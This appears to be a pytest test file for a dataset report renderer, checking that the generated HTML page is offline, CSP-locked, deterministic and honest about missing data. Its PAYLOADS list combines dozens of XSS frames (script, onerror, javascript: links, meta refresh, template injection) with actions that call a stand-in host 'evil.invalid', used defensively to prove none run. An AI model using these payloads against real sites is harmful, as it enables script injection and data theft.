"""The report page: whole without the network, closed to hostile text, honest where something is missing."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import asdict, replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image as pil

from datakit.check.report import render_report
from datakit.check.report_data import (
    AccuracyRow,
    CatalogRow,
    ClassRow,
    CurveRow,
    DuplicatePair,
    KeyNumber,
    LicenceRow,
    MetricRow,
    NullRow,
    OutcomeRow,
    Picture,
    ProbeRow,
    ReportData,
    ScoreRow,
    SplitRow,
    TierRow,
    Validation,
)
from datakit.check.report_summary import summarise
from datakit.image import Image

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
TIERS = ("near", "mid", "far", "coarse")
ACTS = (
    "document.title='pw'+'ned'",
    "fetch('http://evil.invalid/'+1)",
    "alert(document.domain)",
    "import('//evil.invalid/a.js')",
)
FRAMES = """
<script>@</script>
</script><script>@</script>
</style><script>@</script>
</title><script>@</script>
<script\t>@</script\t>
\x00<scr\x00ipt>@</script>
\u202e<script>@</script>
\ud800<script>@</script>
<svg><script>@</script></svg>
<math><mtext><script>@</script>
<!--><script>@</script>-->
<![CDATA[<script>@</script>]]>
<template><script>@</script></template>
<noscript><p title="</noscript><script>@</script>">
<textarea></textarea><script>@</script>
</bdi></td></table><script>@</script>
</code></pre><script>@</script>
<iframe srcdoc='<script>@</script>'>
data:text/html,<script>@</script>
<use href='data:image/svg+xml,<svg onload=@>'/>
<foreignObject><body onload=@></foreignObject>
</svg><body onload=@>
"><img src=x onerror="@">
'><svg onload='@'>
" autofocus onfocus=@ x="
' onmouseover=@ '
` onclick=@ `
<details open ontoggle=@>
<animate onbegin=@ attributeName=x dur=1s>
<set attributeName=onload to=@>
<input onfocus=@ autofocus>
<marquee onstart=@>
<video><source onerror=@>
<audio src onerror=@>
<form action=//evil.invalid/><button autofocus onfocus=@>
javascript:@
<a href="javascript:@">x</a>
<a xlink:href='javascript:@'>
<img src=http://evil.invalid/@>
<image href=//evil.invalid/@ />
<SCRIPT SRC=//evil.invalid/@>
<link rel=stylesheet href=//evil.invalid/?@>
<style>@import '//evil.invalid/@'</style>
<meta http-equiv=refresh content='0;url=//evil.invalid/@'>
<base href=//evil.invalid/@>
<object data=//evil.invalid/@>
{{ ''.__class__ }}@
{% include '/etc/passwd' %}@
&lt;script&gt;@&lt;/script&gt;
&#60;script&#62;@&#60;/script&#62;
""".strip("\n").split("\n")
PAYLOADS = tuple(frame.replace("@", act) for frame in FRAMES for act in ACTS)
FLAGS = [
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"),
    *("--disable-background-networking", "--disable-component-update"),
    *("--enable-logging=stderr", "--dump-dom", "--host-resolver-rules=MAP * ~NOTFOUND"),
]


class Page(HTMLParser):
    """What a browser would build: (tag, attributes), and the text within style, script and everything else."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: dict[str, str] = {"style": "", "script": "", "": ""}
        self._within = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._within = tag if tag in ("style", "script") else ""

    def handle_endtag(self, tag: str) -> None:
        self._within = ""

    def handle_data(self, data: str) -> None:
        self.text[self._within] += data

    @property
    def shape(self) -> list[tuple[str, tuple[str, ...]]]:
        """The tags and the names of their attributes: what text must never change."""
        return [(tag, tuple(attributes)) for tag, attributes in self.tags]


def picture(index: int, side: int = 24) -> np.ndarray[Any, np.dtype[np.uint8]]:
    """Soft blobs of colour, another one for each index."""
    rng = np.random.default_rng(index)
    small = pil.fromarray(rng.integers(0, 256, (4, 4, 3), dtype=np.uint8))
    return np.asarray(small.resize((side, side)))


def finding(check: str, severity: str = "fail", passed: bool = True, **more: Any) -> dict[str, Any]:
    base = {
        "count": 0,
        "keys": [],
        "value": None,
        "limit": None,
        "summary": check,
        "detail": {},
        "seed": None,
    }
    return base | {"id": check, "severity": severity, "passed": passed} | more


def validation(word: Callable[[], str] = lambda: "x", methods: tuple[str, ...] = ("ce", "oe")) -> Validation:
    rng = np.random.default_rng(0)
    rows = [
        MetricRow(seed=seed, method=method, detector=detector, tier=tier, n_id=100, n_ood=50,
                  auroc=0.6 + 0.1 * at + 0.01 * seed, auroc_low=0.55, auroc_high=0.99, fpr_at_95tpr_id=0.25)
        for seed in (0, 1) for method in methods for detector in ("msp", "energy") for at, tier in enumerate(TIERS)
    ]  # fmt: skip
    return Validation(
        rows=tuple(rows),
        accuracies=(AccuracyRow(seed=0, method="ce", accuracy=0.9),),
        null_control=(NullRow(seed=0, method="ce", detector="msp", auroc=0.51),),
        probes=(ProbeRow(seed=0, probe=word(), metric=word(), value=0.8, tier="near"),),
        curves=(CurveRow(seed=0, method=word(), name=word(), values=[3.0, 2.0, 1.0]),),
        scores=tuple(
            ScoreRow(seed=0, method="ce", detector="msp", tier=tier, id_scores=rng.normal(1, 1, 60).tolist(),
                     ood_scores=rng.normal(0, 1, 40).tolist())
            for tier in TIERS
        ),
        notes=(word(), word()),
    )  # fmt: skip


def report(word: Callable[[], str] = lambda: "x", classes: int = 12) -> ReportData:
    """A report with every section filled; each text from outside is `word()`."""
    own = [
        ClassRow(name=f"{word()} id {i}", role="id", taxonomy=(word(), word()), counts={"train": 5, "test": 2},
                 pictures=(i,))
        for i in range(classes)
    ]  # fmt: skip
    held = [
        ClassRow(name=f"{word()} near {i}", role="ood", tier="near", counts={"near_ood": 3, "reserve": 50},
                 nearest_id_class=own[i].name, tax_distance=1, feature_distance=0.25, pictures=(classes + i,))
        for i in range(classes)
    ]  # fmt: skip
    return ReportData(
        title=word(), subtitle=word(), command=word(), recipe=word(), recipe_version=word(), seeds=(0, 1),
        numbers=(KeyNumber(label=word(), value=word(), note=word()),),
        splits=tuple(SplitRow(name=n, samples=10, description=word()) for n in ("train", "test", "near_ood", word())),
        tiers=tuple(
            TierRow(name=n, definition=word(), classes=2, images=9, distances=[1.0, 2.0], pictures=(at,))
            for at, n in enumerate(("id", *TIERS, "outlier", word()))
        ),
        classes=(*own, *held),
        pictures=tuple(Picture(image=picture(i), key=word(), caption=word()) for i in range(2 * classes)),
        duplicates=(DuplicatePair(keys=(word(), word()), pictures=(0, 1), splits=(word(), word()), hamming=3,
                                  flipped=True, similarity=0.97, action=word()),),
        findings=(
            finding("near_dup", passed=False, count=9, keys=[word(), word()], summary=word(), value=3.0, limit=2.0,
                    detail={"k" + word(): word(), "nested": {"k" + word(): [word()]}}),
            finding(word(), "warn", passed=False, summary=word(), seed=1),
        ),
        validation=validation(word),
        outcomes=(OutcomeRow(status="kept", count=90), OutcomeRow(status="dropped", count=9, reason="duplicate"),
                  OutcomeRow(status="failed", count=1, reason=word(), keys=(word(),)),
                  OutcomeRow(status="unused", count=30, reason=word(), keys=(word(),))),
        conversions={"to" + word(): 3},
        catalogs=(CatalogRow(title=word(), checksum=word(), licence=word(), homepage="javascript:" + word(),
                             citation=word(), description=word()),),
        licences=(LicenceRow(spdx=word(), images=3, attribution=word()),),
        versions={"v" + word(): word()}, weights={"w" + word(): word()}, config={"c" + word(): word()},
        reproduce=word(),
    )  # fmt: skip


def hostile() -> tuple[ReportData, list[str]]:
    """A report whose every text is the next payload, and the payloads it used; reports go on until all are used."""
    used: list[str] = []

    def word() -> str:
        used.append(PAYLOADS[len(used) % len(PAYLOADS)])
        return used[-1]

    return report(word, classes=40), used


def missing(html: str) -> list[str]:
    """Words that show that something absent was printed all the same."""
    return re.findall(r"\b(?:None|nan|inf|undefined)\b", words(html))


def words(html: str) -> str:
    """The page's text in one line."""
    return " ".join(Page(html).text[""].split())


def test_the_page_asks_for_nothing_from_outside() -> None:
    data = replace(
        report(), catalogs=(CatalogRow(title="birds", homepage="https://example.org/birds?a=1&b=2"),)
    )
    page = Page(render_report(data))
    links = []
    for tag, attributes in page.tags:
        for name, value in attributes.items():
            assert not name.startswith("on") and name not in ("style", "srcset", "action", "srcdoc", "ping")
            if name in ("src", "href", "xlink:href", "data", "poster"):
                assert value is not None
                if tag == "a" and value.startswith("http"):
                    links.append(value)
                else:
                    assert value.startswith(("data:", "#"))
    assert links == ["https://example.org/birds?a=1&b=2"]
    assert "url(" not in page.text["style"] and "@import" not in page.text["style"]


def test_the_policy_allows_our_own_style_and_script_by_hash_and_nothing_else() -> None:
    page = Page(render_report(report()))
    policy = next(a["content"] for t, a in page.tags if a.get("http-equiv") == "Content-Security-Policy")
    assert policy is not None and policy.startswith("default-src 'none'; img-src data:; ")
    assert "unsafe" not in policy and "http" not in policy
    for kind in ("style", "script"):
        digest = base64.b64encode(hashlib.sha256(page.text[kind].encode()).digest()).decode()
        assert f"{kind}-src 'sha256-{digest}'" in policy
        assert sum(tag == kind for tag, _ in page.tags) == 1


def test_200_payloads_change_no_tag_and_no_attribute() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 200
    data, used = hostile()
    assert set(used) == set(PAYLOADS)
    html = render_report(data)
    assert Page(html).shape == Page(render_report(report(classes=40))).shape
    for payload in PAYLOADS:
        if "<" in payload:
            assert payload not in html


def test_only_web_addresses_become_links() -> None:
    homes = (
        "javascript:alert(1)",
        "data:text/html,x",
        "//evil.invalid",
        "file:///etc/passwd",
        "http://[broken",
        "x",
    )
    page = render_report(
        ReportData(title="t", catalogs=tuple(CatalogRow(title="c", homepage=h) for h in homes))
    )
    assert not [a for t, a in Page(page).tags if t == "a" and not (a["href"] or "").startswith("#")]
    assert "javascript:alert(1)" in words(page)  # shown as text, not hidden


@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
def test_chromium_runs_our_script_and_no_other(tmp_path: Path) -> None:
    page = tmp_path / "report.html"
    page.write_text(render_report(hostile()[0]), encoding="utf-8")
    files = (f"--user-data-dir={tmp_path / 'profile'}", f"--log-net-log={tmp_path / 'net.json'}")
    found = subprocess.run(
        [str(CHROMIUM), *FLAGS, *files, page.as_uri()],
        capture_output=True, text=True, timeout=120, check=True,
    )  # fmt: skip
    assert ">80 of 80</output>" in found.stdout  # our script counted the rows of the class table
    assert "pwned" not in found.stdout
    console = [line for line in found.stderr.splitlines() if "CONSOLE" in line]
    assert not console, console
    assert "evil.invalid" not in (tmp_path / "net.json").read_text(encoding="utf-8")


def test_equal_data_gives_equal_bytes_in_another_process_too() -> None:
    here = render_report(report())
    assert here == render_report(report())
    code = (
        "import importlib.util, sys, hashlib; spec = importlib.util.spec_from_file_location('t', sys.argv[1]); "
        "t = importlib.util.module_from_spec(spec); spec.loader.exec_module(t); "
        "print(hashlib.sha256(t.render_report(t.report()).encode()).hexdigest())"
    )
    there = subprocess.run(
        [sys.executable, "-c", code, __file__], env={**os.environ, "PYTHONHASHSEED": "7"},
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert there.stdout.strip() == hashlib.sha256(here.encode()).hexdigest()


def test_every_check_appears_with_its_verdict_the_most_serious_first() -> None:
    rows = [
        (f"{severity}_{passed}", severity, passed)
        for passed in (True, False)
        for severity in ("info", "warn", "fail")
    ]
    page = render_report(ReportData(title="t", findings=tuple(finding(*row) for row in rows)))
    groups = re.findall(
        r'<details class="check .*?</svg>(\w+)</span>.*?<code><bdi>(\w+)</bdi>', page, re.DOTALL
    )
    expected = {"fail_False": "Failed", "warn_False": "Warning", "info_False": "Note"}
    assert dict((check, word) for word, check in groups) == {
        row[0]: expected.get(row[0], "Passed") for row in rows
    }
    assert [word for word, _ in groups] == ["Failed", "Warning", "Note", "Passed", "Passed", "Passed"]


def test_a_check_that_fails_under_one_seed_is_failed() -> None:
    rows = tuple(
        finding("shortcut", "warn", seed != 1, seed=seed, summary=f"seed {seed}") for seed in (0, 1, 2)
    )
    page = render_report(ReportData(title="t", findings=rows))
    assert re.search("checks passed ?2 ?of 3: 1 warning", words(page))
    assert page.count('<details class="check r-warn" open') == 1
    assert re.findall(r'class="seed">seed (\d)', page) == ["1", "0", "2"]


def test_a_severity_we_do_not_know_counts_as_failure() -> None:
    page = render_report(ReportData(title="t", findings=(finding("x", "whatever", passed=False),)))
    assert "1 failed of 1 finding." in words(page)


def test_an_empty_report_says_so_in_every_section() -> None:
    page = render_report(ReportData(title="nothing"))
    sections = re.findall(r'<section id="(\w+)">(.*?)</section>', page, re.DOTALL)
    assert len(sections) == 8
    assert all('<p class="none">' in body for _, body in sections)
    assert not missing(page)


@pytest.mark.parametrize(
    "without",
    [
        "splits",
        "tiers",
        "classes",
        "duplicates",
        "findings",
        "validation",
        "outcomes",
        "catalogs",
        "licences",
        "config",
    ],
)
def test_each_part_may_be_missing(without: str) -> None:
    empty: Any = {"validation": None, "config": {}}.get(without, ())
    assert not missing(render_report(replace(report(), **{without: empty}, numbers=())))


def test_parts_of_a_validation_may_be_missing() -> None:
    bare = Validation(rows=validation().rows[:1], notes=("no outliers: OE, MixOE not run",))
    page = words(render_report(ReportData(title="t", validation=bare)))
    assert "No outliers: OE, MixOE not run." in page
    assert "so a leak in the protocol itself would not show" in page
    assert "The reference loop gave no AUROC." in words(
        render_report(ReportData(title="t", validation=Validation()))
    )


def test_scores_that_are_not_numbers_or_all_equal_are_drawn_or_left_out() -> None:
    row = ScoreRow(seed=0, method="ce", detector="msp", tier="near", id_scores=[1.0, 1.0], ood_scores=[1.0])
    broken = replace(row, tier="far", ood_scores=[float("nan"), float("inf")])
    page = render_report(ReportData(title="t", validation=Validation(scores=(row, broken))))
    assert "near 50.0" in page and not missing(page)


def test_means_are_over_seeds_with_the_sample_standard_deviation() -> None:
    rows = [
        replace(validation().rows[0], seed=seed, auroc=auroc) for seed, auroc in enumerate((0.7, 0.8, 0.9))
    ]
    (summary,) = summarise(rows)
    assert summary.seeds == 3 and summary.mean["auroc"] == pytest.approx(0.8)
    assert summary.std["auroc"] == pytest.approx(np.std([0.7, 0.8, 0.9], ddof=1))
    assert "oscr" not in summary.mean
    assert summarise(rows[:1])[0].std["auroc"] is None


def test_a_false_positive_rate_is_never_without_its_positive_class() -> None:
    heads = re.findall(r"<th[^>]*>(.*?)</th>", render_report(report()), re.DOTALL)
    rates = [head for head in heads if re.search("FPR|TNR", head)]
    assert rates and all("ID+" in head or "OOD+" in head for head in rates)


def test_numbers_at_the_top_come_from_the_data() -> None:
    page = words(render_report(replace(report(), numbers=())))
    for wanted in (
        "40 in 4 splits",
        "12 beside 12 OOD classes",
        "2 0, 1",
        "0 of 2: 1 failed, 1 warning",
        "60.5 MSP on CE",
    ):
        label, _, note = wanted.partition(" ")
        assert re.search(rf"{re.escape(label)} ?{re.escape(note)}", page), wanted


def test_in_the_hero_each_id_picture_is_the_class_nearest_to_the_near_one() -> None:
    count = iter(range(10_000))
    data = report(lambda: f"w{next(count)}")
    named = tuple(replace(p, key="", caption=f"p{i}") for i, p in enumerate(data.pictures))
    page = render_report(replace(data, pictures=named))
    ours, near = (re.search(rf'aria-label="9 {t} pictures: ([^"]+)"', page) for t in ("ID", "Near"))
    assert ours and near
    left, right = ([int(name[1:]) for name in found[1].split(", ")] for found in (ours, near))
    assert [i + 12 for i in left] == right and len(left) == 9


def test_thumbnails_are_ours_and_carry_nothing_of_the_file() -> None:
    exif = pil.Exif()
    exif[0x010E] = "<script>alert(1)</script> secret"
    target = io.BytesIO()
    pil.fromarray(picture(1, 64)).save(target, format="JPEG", exif=exif)
    data = ReportData(
        title="t",
        pictures=(Picture(image=Image(target.getvalue())),),
        tiers=(TierRow(name="near", pictures=(0,)),),
    )
    sprites = re.findall(r'href="data:image/webp;base64,([^"]+)"', render_report(data))
    assert sprites
    for sprite in sprites:
        raw = base64.b64decode(sprite)
        assert b"secret" not in raw and pil.open(io.BytesIO(raw)).format == "WEBP"


def test_a_picture_that_cannot_be_decoded_is_a_crossed_tile_and_counted() -> None:
    data = ReportData(
        title="t",
        pictures=(Picture(image=Image(b"<html>not an image</html>")),),
        tiers=(TierRow(name="near", pictures=(0,)),),
    )
    assert "could not be drawn: 2 not_an_image." in words(render_report(data))  # in the hero and in its tier


def test_a_picture_that_is_not_there_or_no_picture_is_refused() -> None:
    tiers = (TierRow(name="near", pictures=(1,)),)
    with pytest.raises(ValueError, match="picture 1 is named but the report has 1 pictures"):
        render_report(ReportData(title="t", pictures=(Picture(image=picture(0)),), tiers=tiers))
    grey: Any = np.zeros((4, 4), np.uint8)
    with pytest.raises(ValueError, match=r"must be uint8 \(height, width, 3\), not uint8 \(4, 4\)"):
        render_report(ReportData(title="t", pictures=(Picture(image=grey),) * 2, tiers=tiers))


@pytest.mark.parametrize("classes", [200, 1000])
def test_the_page_stays_small_with_many_classes(classes: int) -> None:
    rng = np.random.default_rng(0)
    noise = tuple(
        Picture(
            image=np.asarray(
                pil.fromarray(rng.integers(0, 256, (12, 12, 3), dtype=np.uint8)).resize((96, 96))
            )
        )
        for _ in range(50)
    )
    rows = tuple(
        ClassRow(name=f"a fine-grained class {i}", role="id", taxonomy=("order", "family"), counts={"train": 30},
                 pictures=tuple((i + k) % 50 for k in range(6)))
        for i in range(classes)
    )  # fmt: skip
    page = render_report(ReportData(title="t", classes=rows, pictures=noise))
    assert page.count("a fine-grained class") == classes
    assert len(page.encode()) < 6_000_000


def test_counts_of_a_class_leave_the_reserve_out() -> None:
    row = ClassRow(name="x", role="ood", tier="near", counts={"near_ood": 3, "val_ood": 4, "reserve": 50})
    page = render_report(ReportData(title="t", classes=(row,)))
    assert re.findall(r'data-v="(\d*)"', page) == ["", "", "", "7"]


def test_outcomes_add_up_to_what_came_in() -> None:
    page = words(render_report(report()))
    assert "100 images came in; each is in one row below." in page
    assert "30 images have no role under the published seed." in page


def test_names_of_any_script_and_length_stay_in_their_place() -> None:
    names = ("وردة" * 50, "名前" * 200, "\x1b[31mred\x07", "half \udc80 a pair", "a" * 5000)
    page = render_report(
        ReportData(title="t", classes=tuple(ClassRow(name=name, role="id") for name in names))
    )
    page.encode("utf-8")
    assert f"<bdi>{names[0]}</bdi>" in page and f"<bdi>{names[4]}</bdi>" in page
    assert "<bdi>\ufffd[31mred\ufffd</bdi>" in page and "<bdi>half \ufffd a pair</bdi>" in page


def test_the_class_table_is_whole_without_the_script() -> None:
    page = render_report(report())
    tools = next(a for t, a in Page(page).tags if "data-tools" in a)
    assert "hidden" in tools  # only the script can use them, so only the script shows them
    assert page.split("<script>")[0].count("<tr data-role=") == 24


def test_all_but_the_pictures_is_plain_json() -> None:
    assert json.loads(json.dumps(asdict(replace(report(), pictures=()))))["title"] == "x"
